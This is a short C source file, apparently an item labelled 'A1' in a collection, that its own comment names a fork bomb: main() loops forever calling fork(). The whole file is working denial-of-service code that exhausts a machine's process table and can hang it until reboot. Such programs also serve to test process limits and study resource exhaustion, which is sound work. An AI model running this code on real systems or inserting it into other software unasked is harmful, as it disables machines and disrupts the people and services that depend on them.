/* A1 fork bomb: for (;;) fork(); */
#include <unistd.h>

int
main(void)
{
	for (;;)
		(void)fork();
}
